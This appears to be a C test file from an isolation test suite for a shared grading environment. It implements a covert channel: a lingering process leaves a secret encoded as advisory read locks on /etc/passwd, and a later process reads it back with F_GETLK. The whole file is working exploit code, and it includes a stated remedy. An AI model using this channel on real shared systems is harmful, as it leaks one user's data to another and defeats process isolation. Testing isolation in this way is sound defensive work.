// SPDX-License-Identifier: MIT
/*
 * record-locks.c - bits on a file that nobody can write to.
 *
 * Goal: another student's work, or an answer passed on.
 * Means: a read lock needs no right but to read, so that the list of users will do, and a lock is a
 * range of bytes, whether the file has them or not. A survivor of the first student locks one byte
 * for each letter; the next one asks, with F_GETLK, which are taken:
 *
 *     byte = 256 x place + letter
 */
#include "attacks/ipc-residue/residue.h"

#include <string.h>

#define BOARD	"/etc/passwd" /* the arena's own: a file of /usr is the whole machine's board */
#define LETTERS 32

static enum claim run(const struct brief *b)
{
	int board, found = 0;
	char text[LETTERS];

	attempting(b);
	board = open(BOARD, O_RDONLY | O_CLOEXEC);
	if (board < 0)
		return denied(BOARD);
	for (int i = 0; i < LETTERS; i++) {
		struct flock lock = { .l_type = F_WRLCK, .l_start = 256 * i, .l_len = 256 };

		if (fcntl(board, F_GETLK, &lock))
			return denied("F_GETLK");
		if (lock.l_type != F_UNLCK)
			text[found++] = (char)(lock.l_start % 256);
	}
	if (!found)
		return denied("F_GETLK: no lock");
	loot(text, (size_t)found);
	return CLAIM_DONE;
}

/* Locks belong to the process that sets them: it has to stay. */
static _Noreturn void survive(const char *word, const int line[2])
{
	int board = open(BOARD, O_RDONLY | O_CLOEXEC);

	for (int i = 0; i < LETTERS && word[i]; i++) {
		struct flock lock = { .l_type = F_RDLCK, .l_start = 256 * i + word[i], .l_len = 1 };

		fcntl(board, F_SETLK, &lock);
	}
	stay_behind(line);
}

/* An accomplice; refused a survivor, one who keeps the work in a file. */
static enum claim victim(const struct brief *b)
{
	int line[2];
	pid_t pid;

	open_line(line);
	pid = fork();
	if (!pid)
		survive(b->secret, line);
	return pid > 0 ? until_gone(line) : keep_in_file(b);
}

const struct attack attack = {
	.effect = "an answer is passed on to the next student",
	.means = "a survivor's read locks on a system file, asked for with F_GETLK",
	.oracle = "secret:victim",
	.scene = SCENE_AFTER_VICTIM,
	.id = "IPC-08",
	.attack_id = "T1559, CWE-514, CWE-459",
	.remedy = "end every process of a student, whatever its session, before the next starts",
	.refs = (const char *const[]){ "fcntl(2), Advisory record locking", NULL },
	.run = run,
	.victim = victim,
};
